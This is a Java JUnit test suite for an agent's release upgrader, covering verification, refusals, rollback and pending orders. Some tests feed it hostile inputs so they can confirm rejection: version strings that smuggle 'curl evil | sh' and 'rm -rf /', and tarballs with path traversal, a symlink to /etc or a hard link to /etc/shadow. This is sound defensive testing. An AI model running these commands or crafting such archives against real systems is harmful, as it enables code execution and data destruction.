package io.opsagent.launcher.upgrade;

import static org.assertj.core.api.Assertions.assertThat;

import io.opsagent.fsm.AgentIdentity;
import io.opsagent.fsm.OpsAgent;
import io.opsagent.fsm.RoundState;
import io.opsagent.fsm.protocol.AgentUpdate;
import io.opsagent.fsm.spi.StateExecution;
import io.opsagent.fsm.spi.Upgrader.UpgradeCallback;
import io.opsagent.fsm.testing.ManualEventLoop;
import io.opsagent.launcher.upgrade.HandshakeGuard.Verdict;
import io.opsagent.launcher.upgrade.UpgradeState.InFlightSwitch;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Consumer;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class LauncherUpgraderTest {

    @TempDir
    Path tmp;

    Fixture f;
    ExecutorService thread;
    LogCapture quiet;

    @BeforeEach
    void hostRuns12() {
        f = new Fixture(tmp).running("1.2");
        thread = Executors.newSingleThreadExecutor();
        quiet = LogCapture.of(HandshakeGuard.class);
    }

    @AfterEach
    void tearDown() {
        quiet.close();
        thread.shutdownNow();
        f.close();
    }

    /** Records the outcome of one upgrade and how often an outcome was reported. */
    static final class Outcome implements UpgradeCallback {
        final CompletableFuture<String> result = new CompletableFuture<>();
        final AtomicInteger calls = new AtomicInteger();

        @Override
        public void finished() {
            calls.incrementAndGet();
            result.complete("finished");
        }

        @Override
        public void failed(String reason) {
            calls.incrementAndGet();
            result.complete("failed: " + reason);
        }

        String await() {
            try {
                return result.get(20, TimeUnit.SECONDS);
            } catch (Exception e) {
                throw new AssertionError("no outcome within 20 s", e);
            }
        }
    }

    LauncherUpgrader upgrader(String running) {
        return upgrader(running, UnaryOperator.identity());
    }

    LauncherUpgrader upgrader(String running, UnaryOperator<UpgradeSettings.Builder> settings) {
        return upgrader(running, ReleaseKind.PLAIN, settings);
    }

    LauncherUpgrader upgrader(String running, ReleaseKind kind, UnaryOperator<UpgradeSettings.Builder> settings) {
        return new LauncherUpgrader(settings.apply(f.settings()).build(), f.loadState(), running, kind, f.clock,
                thread);
    }

    String upgrade(LauncherUpgrader upgrader, String version) {
        Outcome outcome = new Outcome();
        upgrader.upgrade(new AgentUpdate(version, null), outcome);
        String result = outcome.await();
        assertThat(outcome.calls).as("exactly one outcome").hasValue(1);
        return result;
    }

    @Test
    void publishedReleaseIsFetchedVerifiedUnpackedAndSwitchedTo() throws Exception {
        f.publish("1.3", Tarball.release().file("lib/extra.txt", "1.3", 0644).bytes());

        assertThat(upgrade(upgrader("1.2"), "1.3")).isEqualTo("finished");

        assertThat(f.currentTarget()).isEqualTo("releases/1.3");
        assertThat(f.linkTarget("previous")).isEqualTo("releases/1.2");
        assertThat(f.releasesListing()).containsExactly("1.2", "1.3");
        assertThat(Files.readString(f.installDir.resolve("current/lib/extra.txt"))).isEqualTo("1.3");
        UpgradeState state = f.loadState();
        assertThat(state.pending()).isEmpty();
        assertThat(state.inFlight()).hasValueSatisfying(s -> {
            assertThat(s.version()).isEqualTo("1.3");
            assertThat(s.previousVersion()).isEqualTo("1.2");
            assertThat(s.switchedAt()).isEqualTo(f.clock.instant());
            assertThat(s.deadline()).as("runs from the new release's first start").isNull();
        });
        assertThat(LauncherUpgrader.RESTART_EXIT_CODE).isEqualTo(75);
    }

    @Test
    void sameVersionOrderedAgainAfterSuccessIsRefusedAsAlreadyCurrent() {
        f.publish("1.3", Tarball.release().bytes());
        LauncherUpgrader upgrader = upgrader("1.2");
        upgrade(upgrader, "1.3");
        int requests = f.server.requests().size();

        assertThat(upgrade(upgrader, "1.3"))
                .isEqualTo("failed: refused: release 1.3 is already installed and current; the agent runs it at its next start");

        assertThat(f.server.requests()).hasSize(requests);
        assertThat(f.currentTarget()).isEqualTo("releases/1.3");
    }

    @Test
    void versionAlreadyRunningIsRefusedWithoutDownloading() {
        assertThat(upgrade(upgrader("1.2"), "1.2")).isEqualTo("failed: refused: release 1.2 is already running");
        assertThat(f.server.requests()).isEmpty();
    }

    String upgrade(LauncherUpgrader upgrader, AgentUpdate order) {
        Outcome outcome = new Outcome();
        upgrader.upgrade(order, outcome);
        return outcome.await();
    }

    @Test
    void olderVersionIsRefusedWithoutTheDowngradeFlagAndInstalledWithIt() {
        f.installed("1.1");
        f.publish("1.1", Tarball.release().bytes());
        f.publish("1.10", Tarball.release().bytes());

        assertThat(upgrade(upgrader("1.2"), "1.1")).isEqualTo("failed: refused: release 1.1 is older than the running"
                + " release 1.2, and the order does not say it is a downgrade (\"downgrade\": true)");
        assertThat(f.server.requests()).as("nothing fetched").isEmpty();
        assertThat(f.currentTarget()).isEqualTo("releases/1.2");

        assertThat(upgrade(upgrader("1.2"), new AgentUpdate("1.1", null, true))).isEqualTo("finished");
        assertThat(f.currentTarget()).isEqualTo("releases/1.1");
    }

    @Test
    void downgradeFlagOfAnOrderRecordedBeforeTheAgentStoppedIsKept() {
        f.publish("1.1", Tarball.release().bytes());
        upgrader("1.2").orderReceived(new AgentUpdate("1.1", null, true));

        LauncherUpgrader afterReboot = upgrader("1.2");
        assertThat(afterReboot.pendingOrder()).contains(new AgentUpdate("1.1", null, true));
        assertThat(afterReboot.carryOutPendingUpgrade()).isTrue();
        assertThat(f.currentTarget()).isEqualTo("releases/1.1");
    }

    @Test
    void versionThatIsNotAReleaseNameIsRefused() {
        assertThat(upgrade(upgrader("1.2"), "1.3 && curl evil | sh"))
                .startsWith("failed: refused: version '1.3 && curl evil | sh' is not a release name");
        assertThat(f.server.requests()).isEmpty();
    }

    @Test
    void withoutAPublicKeyEveryUpgradeIsRefused() {
        assertThat(upgrade(upgrader("1.2", b -> b.publicKey(null)), "1.3"))
                .isEqualTo("failed: refused: no upgrade public key is configured ([upgrade] public_key), "
                        + "so no release can be verified");
        assertThat(f.server.requests()).isEmpty();
    }

    @Test
    void anOrderWhileOnProbationIsKeptAndCarriedOutOnceTheFirstHandshakeIsSent() {
        f.publish("1.3", Tarball.release().bytes());
        UpgradeState state = f.loadState();
        state.setInFlight(new InFlightSwitch("1.2", "1.1", f.clock.instant(), f.clock.instant(), 1,
                f.clock.instant().plusSeconds(120)));
        List<Runnable> queued = new ArrayList<>();
        LauncherUpgrader upgrader = new LauncherUpgrader(f.settings().build(), state, "1.2", ReleaseKind.PLAIN, f.clock, queued::add);
        Outcome outcome = new Outcome();

        upgrader.upgrade(new AgentUpdate("1.3", null), outcome);
        queued.remove(0).run();

        assertThat(outcome.result).as("kept, neither refused nor carried out").isNotDone();
        assertThat(queued).isEmpty();
        assertThat(f.server.requests()).isEmpty();

        // What the Handshake event does: the guard confirms the release, then the upgrader hears of it.
        state.recordGood("1.2");
        state.clearInFlight();
        upgrader.probationConfirmed();
        queued.remove(0).run();

        assertThat(outcome.await()).isEqualTo("finished");
        assertThat(outcome.calls).hasValue(1);
        assertThat(f.loadState().inFlight()).get().extracting(InFlightSwitch::version).isEqualTo("1.3");
    }

    @Test
    void aNewerOrderWhileOnProbationSupersedesTheKeptOne() {
        UpgradeState state = f.loadState();
        state.setInFlight(new InFlightSwitch("1.2", "1.1", f.clock.instant(), f.clock.instant(), 1,
                f.clock.instant().plusSeconds(120)));
        List<Runnable> queued = new ArrayList<>();
        LauncherUpgrader upgrader = new LauncherUpgrader(f.settings().build(), state, "1.2", ReleaseKind.PLAIN, f.clock, queued::add);
        Outcome first = new Outcome();

        upgrader.upgrade(new AgentUpdate("1.3", null), first);
        queued.remove(0).run();
        upgrader.upgrade(new AgentUpdate("1.4", null), new Outcome());
        queued.remove(0).run();

        assertThat(first.await()).isEqualTo("failed: superseded by the order to 1.4 while release 1.2 was on probation");
    }

    @Test
    void anOrderGivenInAnswerToAnOutcomeIsCarriedOutAndStillGuardedAgainstAThird() {
        f.publish("1.3", Tarball.release().bytes());
        List<Runnable> queued = new ArrayList<>();
        LauncherUpgrader upgrader = new LauncherUpgrader(f.settings().build(), f.loadState(), "1.2", ReleaseKind.PLAIN, f.clock, queued::add);
        Outcome retry = new Outcome();
        Outcome third = new Outcome();
        // As the round machine does: a failed upgrade, then at once the next order it holds.
        upgrader.upgrade(new AgentUpdate("1.3; rm -rf /", null), new UpgradeCallback() {
            @Override
            public void finished() {
                throw new AssertionError("an invalid version cannot be installed");
            }

            @Override
            public void failed(String reason) {
                upgrader.upgrade(new AgentUpdate("1.3", null), retry);
            }
        });

        queued.remove(0).run();
        upgrader.upgrade(new AgentUpdate("1.4", null), third);

        assertThat(third.await()).as("the retry is still running").isEqualTo(
                "failed: refused: another upgrade is under way");
        queued.remove(0).run();
        assertThat(retry.await()).isEqualTo("finished");
        assertThat(f.currentTarget()).isEqualTo("releases/1.3");
    }

    @Test
    void secondOrderWhileOneRunsIsRefusedAndTheFirstReturnsBeforeItsWorkIsDone() {
        f.publish("1.3", Tarball.release().bytes());
        List<Runnable> queued = new ArrayList<>();
        LauncherUpgrader upgrader = new LauncherUpgrader(f.settings().build(), f.loadState(), "1.2", ReleaseKind.PLAIN, f.clock, queued::add);
        Outcome first = new Outcome();
        Outcome second = new Outcome();

        upgrader.upgrade(new AgentUpdate("1.3", null), first);
        upgrader.upgrade(new AgentUpdate("1.4", null), second);

        assertThat(first.result).as("upgrade() returned before doing the work").isNotDone();
        assertThat(second.await()).isEqualTo("failed: refused: another upgrade is under way");
        queued.forEach(Runnable::run);
        assertThat(first.await()).isEqualTo("finished");
    }

    static Stream<Arguments> brokenReleases() {
        return Stream.of(
                broken("bad checksum", f -> {
                    f.publish("1.3", Tarball.release().bytes());
                    f.server.put("/opsagent/1.3/opsagent.tgz.sha256", ("ab".repeat(32) + "  opsagent.tgz\n").getBytes());
                }, "checksum of opsagent.tgz 1.3 does not match", true),
                broken("bad signature", f -> f.publish("1.3", Tarball.release().bytes(), Fixture.newKeyPair().getPrivate()),
                        "signature of opsagent.tgz 1.3 does not verify with the configured key", true),
                broken("missing signature", f -> {
                    f.publish("1.3", Tarball.release().bytes());
                    f.server.remove("/opsagent/1.3/opsagent.tgz.sig");
                }, "signature of opsagent.tgz 1.3 is missing", false),
                broken("truncated tarball", f -> {
                    byte[] whole = f.publish("1.3", Tarball.release().file("blob", new byte[100_000], 0644).bytes());
                    f.server.truncated("/opsagent/1.3/opsagent.tgz", whole, whole.length - 100);
                }, "was cut short after", false),
                broken("path traversal", f -> f.publish("1.3", Tarball.release().file("../evil", "x", 0644).bytes()),
                        "entry '../evil' climbs out of the release directory", true),
                broken("absolute path", f -> f.publish("1.3", Tarball.release().file("/etc/cron.d/evil", "x", 0644).bytes()),
                        "entry '/etc/cron.d/evil' has an absolute path", true),
                broken("symlink to /etc", f -> f.publish("1.3", Tarball.release().symlink("link", "/etc").bytes()),
                        "symbolic link 'link' -> '/etc' points outside the release directory", true),
                broken("symlink climbing out", f -> f.publish("1.3", Tarball.release().symlink("link", "../../x").bytes()),
                        "symbolic link 'link' -> '../../x' points outside the release directory", true),
                broken("hard link", f -> f.publish("1.3", Tarball.release().hardLink("x", "/etc/shadow").bytes()),
                        "entry 'x' is a hard link to '/etc/shadow'", true),
                broken("device file", f -> f.publish("1.3", Tarball.release().charDevice("dev/mem").bytes()),
                        "entry 'dev/mem' is a character device", true),
                broken("oversized archive", f -> f.publish("1.3", Tarball.release().file("zeros", new byte[2 << 20], 0644).bytes()),
                        "release archive of 1.3 expands beyond the limit of 1 MiB", true),
                broken("too many entries", f -> {
                    Tarball t = Tarball.release();
                    for (int i = 0; i < 60; i++) {
                        t.file("many/f" + i, "x", 0644);
                    }
                    f.publish("1.3", t.bytes());
                }, "release archive of 1.3 has more than 50 entries", true));
    }

    static Arguments broken(String name, Consumer<Fixture> publish, String reason, boolean countsAgainstRelease) {
        return Arguments.of(name, publish, reason, countsAgainstRelease);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("brokenReleases")
    void brokenReleaseIsRejectedWithItsReasonAndTheRunningReleaseIsUntouched(String name, Consumer<Fixture> publish,
            String reason, boolean countsAgainstRelease) throws Exception {
        publish.accept(f);
        Path marker = f.installDir.resolve("releases/1.2/bin/opsagent");
        String before = Files.readString(marker);

        String outcome = upgrade(upgrader("1.2", b -> b.maxReleaseBytes(1 << 20).maxReleaseEntries(50)), "1.3");

        assertThat(outcome).startsWith("failed: ").contains(reason);
        assertThat(f.releasesListing()).as("nothing left in releases/").containsExactly("1.2");
        assertThat(f.currentTarget()).isEqualTo("releases/1.2");
        assertThat(f.linkTarget("previous")).isNull();
        assertThat(Files.readString(marker)).isEqualTo(before);
        assertThat(tmp.resolve("opt/visualops/evil")).doesNotExist();
        UpgradeState state = f.loadState();
        assertThat(state.pending()).isEmpty();
        assertThat(state.inFlight()).isEmpty();
        assertThat(state.failures("1.3")).isEqualTo(countsAgainstRelease ? 1 : 0);
        if (countsAgainstRelease) {
            assertThat(outcome).endsWith("(failure 1 of 3)");
        }
    }

    @Test
    void releaseThatNeverHandshakesIsRolledBackAndRefusedAfterThreeFailures() {
        f.publish("1.3", Tarball.release().bytes());

        for (int attempt = 1; attempt <= 3; attempt++) {
            // The running 1.2 installs 1.3 and exits with 75; the supervisor starts current/, i.e. 1.3.
            assertThat(upgrade(upgrader("1.2"), "1.3")).as("attempt %d", attempt).isEqualTo("finished");
            HandshakeGuard newProcess = new HandshakeGuard(f.loadState(), f.switcher(), "1.3",
                    Duration.ofSeconds(120), f.clock);
            assertThat(newProcess.started()).isEqualTo(Verdict.AWAIT_HANDSHAKE);

            // It never writes a Handshake.
            f.clock.advance(Duration.ofSeconds(121));
            assertThat(newProcess.checkDeadline(f.clock.instant())).isEqualTo(Verdict.RESTART);
            assertThat(f.currentTarget()).isEqualTo("releases/1.2");
        }

        String refusal = upgrade(upgrader("1.2"), "1.3");

        assertThat(refusal).startsWith("failed: refused: release 1.3 failed 3 times and is marked bad; "
                + "it is not installed again automatically (last failure: release 1.3 did not send its first Handshake");
        assertThat(f.currentTarget()).isEqualTo("releases/1.2");
        f.publish("1.4", Tarball.release().bytes());
        assertThat(upgrade(upgrader("1.2"), "1.4")).as("another version is not blocked").isEqualTo("finished");
    }

    @Test
    void releaseThatHandshakesCompletesTheUpgradeAndLaterUpgradesPruneOldReleases() {
        f.publish("1.3", Tarball.release().bytes());
        f.publish("1.4", Tarball.release().bytes());
        upgrade(upgrader("1.2"), "1.3");
        HandshakeGuard guard13 = new HandshakeGuard(f.loadState(), f.switcher(), "1.3", Duration.ofSeconds(120), f.clock);
        guard13.started();
        guard13.confirmed();

        assertThat(upgrade(upgrader("1.3"), "1.4")).isEqualTo("finished");
        HandshakeGuard guard14 = new HandshakeGuard(f.loadState(), f.switcher(), "1.4", Duration.ofSeconds(120), f.clock);
        guard14.started();
        guard14.confirmed();
        f.publish("1.5", Tarball.release().bytes());
        assertThat(upgrade(upgrader("1.4"), "1.5")).isEqualTo("finished");

        assertThat(f.releasesListing()).as("only current and previous are kept").containsExactly("1.4", "1.5");
        assertThat(f.loadState().lastGood()).contains("1.4");
    }

    @Test
    void orderRecordedBeforeTheAgentStoppedIsCarriedOutAtTheNextStart() {
        f.publish("1.3", Tarball.release().bytes());
        // The order arrives during a round; the agent is stopped before the round ends.
        upgrader("1.2").orderReceived(new AgentUpdate("1.3", null));

        LauncherUpgrader afterReboot = upgrader("1.2");
        assertThat(afterReboot.pendingOrder()).contains(new AgentUpdate("1.3", null));

        assertThat(afterReboot.carryOutPendingUpgrade()).isTrue();

        assertThat(f.currentTarget()).isEqualTo("releases/1.3");
        assertThat(f.loadState().pending()).isEmpty();
        assertThat(f.loadState().inFlight()).map(InFlightSwitch::version).contains("1.3");
    }

    @Test
    void pendingOrderThatFailsAtStartIsDroppedAndTheAgentGoesOn() {
        upgrader("1.2").orderReceived(new AgentUpdate("1.3", null));

        LauncherUpgrader afterReboot = upgrader("1.2");
        assertThat(afterReboot.carryOutPendingUpgrade()).isFalse();

        assertThat(f.currentTarget()).isEqualTo("releases/1.2");
        assertThat(f.loadState().pending()).isEmpty();
        assertThat(upgrader("1.2").carryOutPendingUpgrade()).as("nothing left to do").isFalse();
    }

    @Test
    void roundMachineStopsAfterAnInstalledUpgradeAndGoesOnAfterAFailedOne() {
        f.publish("1.3", Tarball.release().bytes());
        // The upgrader's work runs inline so the manual loop sees the outcome at once.
        LauncherUpgrader upgrader = new LauncherUpgrader(f.settings().build(), f.loadState(), "1.2", ReleaseKind.PLAIN, f.clock, Runnable::run);

        OpsAgent failing = agent(upgrader);
        failing.receive(new AgentUpdate("9.9", null));
        ((ManualEventLoop) failing.eventLoop()).runUntilIdle();
        assertThat(failing.snapshot().state()).isEqualTo(RoundState.IDLE);
        assertThat(failing.snapshot().pendingUpgrade()).isNull();

        OpsAgent upgrading = agent(upgrader);
        upgrading.receive(new AgentUpdate("1.3", null));
        ((ManualEventLoop) upgrading.eventLoop()).runUntilIdle();
        assertThat(upgrading.snapshot().state()).isEqualTo(RoundState.STOPPED);
        assertThat(f.currentTarget()).isEqualTo("releases/1.3");
    }

    private static OpsAgent agent(LauncherUpgrader upgrader) {
        ManualEventLoop loop = new ManualEventLoop();
        OpsAgent agent = OpsAgent.builder()
                .identity(new AgentIdentity("i-0123", "app-1", "1.2", "token"))
                .executor((request, callback) -> StateExecution.NONE)
                .sink(message -> { })
                .eventLoop(loop)
                .upgrader(upgrader)
                .build();
        agent.start();
        loop.runUntilIdle();
        return agent;
    }
}
